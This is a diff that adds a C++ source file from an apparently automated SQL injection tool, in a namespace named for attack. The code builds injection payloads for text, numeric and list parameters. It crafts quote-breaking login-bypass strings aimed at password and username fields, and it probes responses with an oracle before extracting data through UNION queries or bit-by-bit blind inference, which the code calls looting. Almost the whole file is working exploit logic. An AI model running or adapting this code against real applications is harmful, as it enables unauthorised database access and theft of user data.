@@ -1,0 +1,103 @@
+#include "core/attack/intrusion.h"
+
+#include <algorithm>
+
+#include "core/attack/loot.h"
+#include "core/attack/session.h"
+#include "core/attack/spelling.h"
+#include "core/attack/union_query.h"
+#include "core/base/ascii.h"
+
+namespace parapet::attack {
+namespace {
+
+// A base is put before a quote, so it must not hold one, nor anything else that SQL might read.
+bool is_plain(std::string const& text) {
+    return !text.empty() && std::all_of(text.begin(), text.end(), [](char c) {
+        return ascii::is_alphanumeric(c) || c == ' ' || c == '_' || c == '.' || c == '-' ||
+               c == '@';
+    });
+}
+
+bool names_account(Parameter const& parameter) {
+    return ascii::lower(parameter.name).find("user") != std::string::npos;
+}
+
+}  // namespace
+
+Guess guess_text(Target& target, Parameter const& parameter) {
+    std::vector<std::string> bases;
+    auto const add = [&](std::string const& base) {
+        if (is_plain(base) && std::find(bases.begin(), bases.end(), base) == bases.end())
+            bases.push_back(base);
+    };
+    if (names_account(parameter)) add(target.surface().attacker.username);
+    add(parameter.sample);
+    std::string const nothing = random_word(target, 6);
+    return {text_frames(bases, nothing), text_breaks(nothing)};
+}
+
+Guess guess_number(Parameter const& parameter) {
+    return {number_frames(parameter.sample), number_breaks()};
+}
+
+Guess guess_list(Parameter const& parameter) {
+    std::vector<std::string> const items = split(parameter.sample, ',');
+    return {list_frames(items.empty() ? "1" : items.front()), list_breaks()};
+}
+
+Guess guess_for(Target& target, Parameter const& parameter) {
+    if (is_list(parameter)) return guess_list(parameter);
+    return is_number(parameter) ? guess_number(parameter) : guess_text(target, parameter);
+}
+
+Guess guess_login(Target& target, Endpoint const& login, std::size_t index) {
+    Parameter const& parameter = login.parameters[index];
+    std::string const nothing = random_word(target, 6);
+    if (index == password_parameter(login)) {
+        // Every try may cost the app a hash, so only the likely ones.
+        std::vector<Frame> frames = {{nothing + "'=0=(", ")--"}, {nothing + "'=0=(", ")+'"}};
+        frames.push_back(failing(nothing + "'||substr(7,1,0*", ")||'"));
+        return {frames, {}};
+    }
+    Guess guess = guess_text(target, parameter);
+    // One row only, whose password the attacker knows.
+    std::string const own = ")*(" + login.parameters[index].name + "=" +
+                            characters(target.surface().attacker.username) + ")";
+    for (Break const& each : text_breaks(nothing))
+        guess.frames.push_back({each.open + "=0=(", own + each.tail});
+    return guess;
+}
+
+std::vector<Break> working_breaks(Entry& entry, std::vector<Break> const& breaks) {
+    std::vector<Break> working;
+    for (Break const& each : breaks) {
+        if (Oracle::find(entry, {each.open + "=0=(", ")" + each.tail})) working.push_back(each);
+    }
+    return working;
+}
+
+bool intrude(Entry& entry, Guess const& guess) {
+    bool union_tried = guess.breaks.empty();
+    for (Frame const& frame : guess.frames) {
+        std::optional<Oracle> const oracle = Oracle::find(entry, frame);
+        if (!oracle) continue;
+        if (!union_tried) {
+            union_tried = true;
+            std::optional<UnionQuery> const query =
+                UnionQuery::find(entry, working_breaks(entry, guess.breaks));
+            if (query) {
+                query->loot();
+                return true;
+            }
+        }
+        if (loot_by_bits(*oracle)) return true;
+    }
+    return false;
+}
+
+bool intrude_by_bits(Entry& entry, Guess const& guess) {
+    return intrude(entry, {guess.frames, {}});
+}
+
+}  // namespace parapet::attack
